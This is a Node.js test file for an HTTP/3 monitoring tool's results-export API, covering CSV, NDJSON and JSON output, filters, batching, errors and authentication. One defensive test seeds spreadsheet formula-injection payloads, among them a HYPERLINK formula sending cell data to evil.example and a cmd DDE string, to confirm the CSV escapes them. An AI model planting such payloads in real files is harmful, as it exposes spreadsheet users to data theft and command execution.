// Raw export against real PostgreSQL: what a user gets when they download
// results as CSV, NDJSON or JSON, with filters, limits and many batches.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import { createTestApp } from './helpers/app.js'
import { createMonitor, deleteMonitor } from '../lib/store/monitors.js'
import { upsertLocation } from '../lib/store/locations.js'
import { insertResults } from '../lib/store/results.js'
import { EXPORT_COLUMNS, EXPORT_SELECT, EXPORT_BATCH_ROWS, JSON_MAX_ROWS, csvText } from '../lib/store/results-export.js'

const BASE = Date.parse('2024-03-01T00:00:00Z')
const at = (s) => new Date(BASE + s * 1000).toISOString()
const TRICKY_ERROR = 'net::ERR_FAILED, said "the origin",\nthen: a second line'
const FLAGS = ['--enable-quic', '--origin-to-force-quic-on=lab.h3lens.test:8443']
const NOTES = [{ code: 'slow_ttfb', message: 'TTFB took 3.1 RTT (floor 1), "slow"', metric: 'ttfb', rtt: 3.1 }]

let t
let small
let large
before(async () => {
  t = await createTestApp()
  await upsertLocation(t.db, { id: 'lab-eu', name: 'EU', region: 'Europe', kind: 'lab' })
  small = await createMonitor(t.db, { url: 'https://example.com/', interval_s: 60, locations: ['local', 'lab-eu'] }, { allowPrivateTargets: true })
  // local: 10 rounds a minute apart, h2 + h3 each; the first h3 run failed
  // with an error text that needs CSV quoting.
  await seed(small.id, 'local', Array.from({ length: 10 }, (_, i) => at(i * 60)), (job, i) => [
    result('h2', { ttfb_ms: 100 + i, load_ms: 400.5 + i, ...(i === 1 ? { notes: NOTES, ttfb_rtt: 3.1 } : {}) }),
    i === 0
      ? result('h3', { status: 'error', error: TRICKY_ERROR, protocol_ok: false, observed_protocol: null, ttfb_ms: null, load_ms: null })
      : result('h3', { ttfb_ms: 80 + i, load_ms: 350.25 + i })
  ])
  await seed(small.id, 'lab-eu', Array.from({ length: 5 }, (_, i) => at(i * 60)), () => [result('h2'), result('h3')])

  // 2.5 batches; h2 and h3 of a round share a time, so the keyset must
  // break ties on id.
  large = await createMonitor(t.db, { url: 'https://example.org/', interval_s: 60, locations: ['local'] }, { allowPrivateTargets: true })
  await seed(large.id, 'local', Array.from({ length: 1250 }, (_, i) => at(i * 10)), () => [result('h2'), result('h3')])
  // Round times carry microseconds (anchor_at is now() at creation), finer
  // than a JS Date holds.
  await t.db.query("UPDATE results SET time = time + interval '123456 microseconds' WHERE monitor_id = $1", [large.id])
})
after(async () => { await t.close() })

function result (mode, extra = {}) {
  return {
    mode, status: 'ok', protocol_ok: true, observed_protocol: mode, ttfb_ms: 10, load_ms: 20, bytes: 15360, requests: 3,
    h3_request_share: mode === 'h3' ? 1 : 0, browser_version: 'Chromium 130', flags: mode === 'h3' ? FLAGS : ['--disable-quic'],
    details: { requests: [{ url: 'https://example.com/', protocol: mode }] }, ...extra
  }
}

async function seed (monitorId, locationId, times, resultsOf) {
  const { rows: jobs } = await t.db.query(
    `INSERT INTO jobs (monitor_id, location_id, due_at, state)
     SELECT $1, $2, due, 'done' FROM unnest($3::timestamptz[]) AS due ORDER BY due
     RETURNING id, monitor_id, location_id, due_at`, [monitorId, locationId, times])
  for (const [i, job] of jobs.entries()) await insertResults(t.db, { job, agentId: null, agentVersion: '0.1.0', results: resultsOf(job, i) })
}

async function dbRows (monitorId, where = 'true', values = []) {
  const { rows } = await t.db.query(
    `SELECT ${EXPORT_SELECT.join(', ')} FROM results WHERE monitor_id = $1 AND ${where} ORDER BY time, id`, [monitorId, ...values])
  return rows
}

/** What a CSV cell must read for a database value. */
function cell (column, v) {
  if (v === null || v === undefined) return ''
  if (v instanceof Date) return v.toISOString()
  if (column === 'flags') return csvText(v.join(' '))
  if (typeof v === 'object') return csvText(JSON.stringify(v))
  return typeof v === 'string' ? csvText(v) : String(v)
}

const exportUrl = (query) => `/api/v1/results?${new URLSearchParams(query)}`
const get = (query) => t.app.inject({ url: exportUrl(query) })

test('CSV has a stable header, one row per result and round-trips every value', async () => {
  const res = await get({ monitor: small.id })
  assert.equal(res.statusCode, 200, res.body)
  assert.match(res.headers['content-type'], /^text\/csv/)
  assert.match(res.headers['content-disposition'], new RegExp(`^attachment; filename="h3lens-results-${small.id}-start-\\d{8}T\\d{6}Z\\.csv"$`))

  const [header, ...records] = parse(res.body)
  assert.deepEqual(header, EXPORT_COLUMNS)
  // details without the evidence: the requests are served by the run's own route.
  const details = parse(res.body, { columns: true }).map((r) => JSON.parse(r.details))
  assert.ok(details.every((d) => d.requests === undefined), 'no per-request evidence')
  const expected = await dbRows(small.id)
  assert.equal(records.length, 30)
  assert.deepEqual(records, expected.map((row) => EXPORT_COLUMNS.map((c) => cell(c, row[c]))))

  const failed = parse(res.body, { columns: true }).find((r) => r.status === 'error')
  assert.equal(failed.error, TRICKY_ERROR)
  assert.equal(failed.protocol_ok, 'false')
  assert.equal(failed.ttfb_ms, '')
  // "--enable-quic …" would be a formula to a spreadsheet (see below).
  assert.equal(failed.flags, `'${FLAGS.join(' ')}`)
  assert.equal(failed.time, at(0))
  const noted = parse(res.body, { columns: true }).find((r) => r.notes !== '')
  assert.deepEqual(JSON.parse(noted.notes), NOTES)
})

test('a text a spreadsheet would run as a formula is written as text; NDJSON keeps it as it came', async () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']
  const m = await createMonitor(t.db, { url: 'https://example.net/', interval_s: 60, locations: ['local'] }, { allowPrivateTargets: true })
  await seed(m.id, 'local', hostile.map((_, i) => at(i * 60)), (job, i) => [
    result('h2', { status: 'error', error: hostile[i], browser_version: hostile[i], observed_protocol: null, ttfb_ms: null, load_ms: null })
  ])
  const rows = parse((await get({ monitor: m.id })).body, { columns: true })
  assert.deepEqual(rows.map((r) => r.error), hostile.map((h) => `'${h}`))
  assert.deepEqual(rows.map((r) => r.browser_version), hostile.map((h) => `'${h}`))
  // Numbers are numbers, also where PostgreSQL gives them as text.
  assert.deepEqual(['-12.5', '+3', '-1e-3', '-.5', 'net::ERR_FAILED', '- 2'].map(csvText), ['-12.5', '+3', '-1e-3', '-.5', 'net::ERR_FAILED', "'- 2"])
  const ndjson = (await get({ monitor: m.id, format: 'ndjson' })).body.trim().split('\n').map((l) => JSON.parse(l))
  assert.deepEqual(ndjson.map((r) => r.error), hostile)
})

test('HEAD names the download without reading the results', async () => {
  const query = t.db.query
  let reads = 0
  t.db.query = (...args) => { if (/FROM results/.test(String(args[0]))) reads++; return query.apply(t.db, args) }
  try {
    const res = await t.app.inject({ method: 'HEAD', url: exportUrl({ monitor: large.id, format: 'ndjson' }) })
    assert.equal(res.statusCode, 200)
    assert.match(res.headers['content-disposition'], /filename="h3lens-results-\d+-start-\d{8}T\d{6}Z\.ndjson"/)
    assert.equal(res.body, '')
    assert.equal(reads, 0)
  } finally {
    t.db.query = query
  }
})

test('NDJSON is one JSON object per line with the same fields', async () => {
  const res = await get({ monitor: small.id, format: 'ndjson', from: at(0), to: at(3600) })
  assert.equal(res.statusCode, 200, res.body)
  assert.match(res.headers['content-type'], /^application\/x-ndjson/)
  assert.equal(res.headers['content-disposition'], `attachment; filename="h3lens-results-${small.id}-20240301T000000Z-20240301T010000Z.ndjson"`)
  assert.ok(res.body.endsWith('\n'))
  const lines = res.body.trimEnd().split('\n').map((l) => JSON.parse(l))
  const expected = (await dbRows(small.id)).map((r) => JSON.parse(JSON.stringify(r)))
  assert.deepEqual(lines, expected)
  assert.deepEqual(Object.keys(lines[0]), EXPORT_COLUMNS)
  assert.deepEqual(lines.find((r) => r.status === 'error').flags, FLAGS)
})

test('filters narrow the export: location, mode, status and the [from, to) range', async () => {
  const byLocation = parse((await get({ monitor: small.id, location: 'lab-eu' })).body, { columns: true })
  assert.equal(byLocation.length, 10)
  assert.ok(byLocation.every((r) => r.location_id === 'lab-eu'))

  const h3 = parse((await get({ monitor: small.id, mode: 'h3', location: 'local' })).body, { columns: true })
  assert.equal(h3.length, 10)
  assert.ok(h3.every((r) => r.mode === 'h3'))

  const errors = parse((await get({ monitor: small.id, status: 'error' })).body, { columns: true })
  assert.equal(errors.length, 1)

  // Rounds at minutes 2, 3, 4: from is inclusive, to exclusive.
  const ranged = parse((await get({ monitor: small.id, location: 'local', from: at(120), to: at(300) })).body, { columns: true })
  assert.deepEqual([...new Set(ranged.map((r) => r.time))], [at(120), at(180), at(240)])
  assert.equal(ranged.length, 6)
})

test('an export larger than one batch delivers every row exactly once, in order', async () => {
  const expected = await dbRows(large.id)
  assert.equal(expected.length, 2500)
  assert.ok(expected.length > 2 * EXPORT_BATCH_ROWS)
  const ids = expected.map((r) => String(r.id))

  const csv = parse((await get({ monitor: large.id })).body, { columns: true })
  assert.deepEqual(csv.map((r) => r.id), ids)

  const ndjson = (await get({ monitor: large.id, format: 'ndjson' })).body.trimEnd().split('\n').map((l) => JSON.parse(l))
  assert.deepEqual(ndjson.map((r) => String(r.id)), ids)
})

test('format=json answers {items} for a short range', async () => {
  const res = await get({ monitor: small.id, format: 'json', from: at(0), to: at(86400) })
  assert.equal(res.statusCode, 200, res.body)
  const { items } = res.json()
  assert.equal(items.length, 30)
  assert.deepEqual(items.map((r) => r.id), (await dbRows(small.id)).map((r) => r.id))
  assert.ok(!('details' in items[0]))
})

test('format=json refuses long ranges and more than 10,000 rows, pointing at the streaming formats', async () => {
  const long = await get({ monitor: small.id, format: 'json', from: at(0), to: at(8 * 86400) })
  assert.equal(long.statusCode, 400)
  assert.match(long.json().message, /7 days.*format=csv or format=ndjson/)

  const open = await get({ monitor: small.id, format: 'json' })
  assert.equal(open.statusCode, 400)
  assert.match(open.json().message, /format=csv or format=ndjson/)

  const many = await createMonitor(t.db, { url: 'https://example.net/', interval_s: 60, locations: ['local'] }, { allowPrivateTargets: true })
  await t.db.query(
    `INSERT INTO results (time, job_id, monitor_id, location_id, mode, status, protocol_ok)
     SELECT $2::timestamptz + make_interval(secs => g), g, $1, 'local', 'h2', 'ok', true FROM generate_series(1, $3) g`,
    [many.id, at(0), JSON_MAX_ROWS + 1])
  const tooMany = await get({ monitor: many.id, format: 'json', from: at(0), to: at(86400) })
  assert.equal(tooMany.statusCode, 400)
  assert.match(tooMany.json().message, /more than 10000 results.*format=csv or format=ndjson/)
  const streamed = await get({ monitor: many.id, format: 'ndjson', from: at(0), to: at(86400) })
  assert.equal(streamed.body.trimEnd().split('\n').length, JSON_MAX_ROWS + 1)
})

test('bad input gets a 400 that says what to fix; an unknown monitor a 404', async () => {
  const reversed = await get({ monitor: small.id, from: at(600), to: at(0) })
  assert.equal(reversed.statusCode, 400)
  assert.equal(reversed.json().message, 'from must not be after to')

  const format = await get({ monitor: small.id, format: 'xlsx' })
  assert.equal(format.statusCode, 400)
  assert.match(format.json().message, /format must be one of csv, ndjson, json/)

  const missing = await t.app.inject({ url: '/api/v1/results' })
  assert.equal(missing.statusCode, 400)
  assert.match(missing.json().message, /monitor is required/)

  const unknownField = await get({ monitor: small.id, limit: 5 })
  assert.equal(unknownField.statusCode, 400)
  assert.match(unknownField.json().message, /unknown field "limit"/)

  const badDate = await get({ monitor: small.id, from: 'yesterday' })
  assert.equal(badDate.statusCode, 400)
  assert.equal(badDate.json().field, 'from')

  const unknown = await get({ monitor: 999999 })
  assert.equal(unknown.statusCode, 404)
  assert.match(unknown.json().message, /monitor 999999 does not exist/)
})

test('exporting needs an API key; a read key is enough', async () => {
  const none = await t.app.inject({ url: exportUrl({ monitor: small.id }), headers: { authorization: undefined } })
  assert.equal(none.statusCode, 401)
  const read = await t.app.inject({ url: exportUrl({ monitor: small.id }), headers: { authorization: `Bearer ${t.readKey}` } })
  assert.equal(read.statusCode, 200)
})

test('a deleted monitor\'s results can still be exported', async () => {
  const gone = await createMonitor(t.db, { url: 'https://example.com/gone', interval_s: 60, locations: ['local'] }, { allowPrivateTargets: true })
  await seed(gone.id, 'local', [at(0)], () => [result('h2')])
  await deleteMonitor(t.db, gone.id)
  const res = await get({ monitor: gone.id })
  assert.equal(res.statusCode, 200, res.body)
  assert.equal(parse(res.body, { columns: true }).length, 1)
})

test('the export is documented in the OpenAPI document', async () => {
  const doc = (await t.app.inject({ url: '/api/openapi.json' })).json()
  const op = doc.paths['/api/v1/results'].get
  assert.deepEqual(op.tags, ['export'])
  assert.ok(op.description.length > 20)
  assert.ok(op.parameters.some((p) => p.name === 'monitor' && p.required))
})
